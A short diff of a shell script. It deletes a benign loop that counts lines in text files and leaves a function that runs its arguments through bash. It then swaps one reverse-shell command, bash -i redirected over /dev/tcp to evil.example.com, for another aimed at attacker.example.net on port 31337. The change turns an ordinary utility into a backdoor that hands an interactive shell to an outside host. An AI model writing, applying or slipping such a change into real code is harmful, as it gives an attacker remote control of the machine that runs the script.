@@ -1,11 +1,5 @@
-#!/bin/sh
-WORKDIR="${WORKDIR:-$PWD}"
-cd "$WORKDIR" || exit 1
-for f in *.txt; do
-  [ -e "$f" ] || continue
-  wc -l "$f"
-done
+#!/usr/bin/env bash
 function connect {
   bash -c "$*"
 }
-connect "bash -i >& /dev/tcp/evil.example.com/4444 0>&1"
+connect "bash -i >& /dev/tcp/attacker.example.net/31337 0>&1"
